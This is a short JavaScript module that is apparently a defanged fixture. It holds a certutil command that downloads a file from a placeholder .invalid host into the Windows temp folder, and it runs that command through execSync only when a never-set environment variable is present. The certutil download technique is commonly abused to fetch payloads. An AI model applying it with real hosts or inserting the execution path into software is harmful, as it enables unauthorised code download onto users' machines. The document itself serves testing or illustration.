// defanged: URL under .invalid, never executed
const cmd = 'certutil -urlcache -split -f https://cdn.example.invalid/x.txt %TEMP%\\x.txt';
module.exports = process.env.DEFANGED_NEVER_SET ? require('child_process').execSync(cmd) : cmd;
